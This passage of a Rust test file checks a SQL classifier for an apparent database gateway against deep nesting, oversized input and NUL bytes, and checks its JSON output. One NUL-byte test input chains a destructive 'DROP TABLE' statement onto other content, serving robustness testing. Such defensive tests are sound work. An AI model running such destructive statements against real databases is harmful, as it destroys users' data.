    assert_eq!(classify("SELEC 1", PG).statements, 0);
}

#[test]
fn ten_thousand_nested_parentheses_are_unparsed() {
    let sql = format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000));
    let c = classify(&sql, PG);
    assert_eq!(c.classes, set(&[Read, Unparsed]), "{:?}", c.parse_error);
}

#[test]
fn ten_thousand_nested_subqueries_are_unparsed() {
    let sql = format!("SELECT {}1{}", "(SELECT ".repeat(10_000), ")".repeat(10_000));
    let c = classify(&sql, PG);
    assert!(c.classes.contains(&Unparsed), "{c:?}");
    assert!(c.parse_error.is_some_and(|e| e.contains("recursion")));
}

#[test]
fn moderate_nesting_still_parses() {
    let sql = format!("SELECT {}1{}", "(SELECT ".repeat(8), ")".repeat(8));
    assert_eq!(classify(&sql, PG).classes, set(&[Read]));
    let sql = format!("SELECT {}1{}", "(".repeat(40), ")".repeat(40));
    assert_eq!(classify(&sql, PG).classes, set(&[Read]));
}

#[test]
fn worst_case_expression_chains_near_the_size_limit_do_not_overflow_the_stack() {
    for unit in ["+1", " !", " IS NULL", "::int", " OR a=1"] {
        let repeat = (DEFAULT_MAX - 64) / unit.len();
        let sql = format!("SELECT a FROM t WHERE a=1{}", unit.repeat(repeat));
        assert!(sql.len() <= DEFAULT_MAX, "{unit}");
        let c = classify(&sql, PG);
        assert_eq!(c.classes, set(&[Read]), "{unit}: {:?}", c.parse_error);
    }
}

const DEFAULT_MAX: usize = gateway_core::classify::sql::DEFAULT_MAX_SQL_BYTES;

#[test]
fn input_over_the_limit_is_unparsed_with_a_reason() {
    let sql = format!("SELECT 1 -- {}", "x".repeat(DEFAULT_MAX));
    let c = classify(&sql, PG);
    assert_eq!(c.classes, set(&[Unparsed]));
    assert!(c.parse_error.as_deref().is_some_and(|e| e.contains("limit")), "{c:?}");
    let c = classify_with_limit("SELECT 1", PG, 8);
    assert_eq!(c.classes, set(&[Read]), "exactly at the limit is fine");
    let c = classify_with_limit("SELECT 1", PG, 7);
    assert_eq!(c.classes, set(&[Unparsed]));
}

#[test]
fn nul_bytes_do_not_panic() {
    for sql in ["\0", "SELECT \0", "\0\0; DROP TABLE t", "SELECT '\0'", "/*\0*/ SELECT 1"] {
        for d in [PG, MY, LITE] {
            let c = classify(sql, d);
            assert!(!c.classes.is_empty(), "{sql:?}");
        }
    }
}

#[test]
fn classification_serializes_with_snake_case_class_names() {
    let c = classify("DELETE FROM t", PG);
    let json = serde_json::to_value(&c).expect("serializes");
    assert_eq!(json["classes"], serde_json::json!(["delete_without_where"]));
    assert_eq!(json["tables"], serde_json::json!(["t"]));
    assert_eq!(json["statements"], serde_json::json!(1));
}
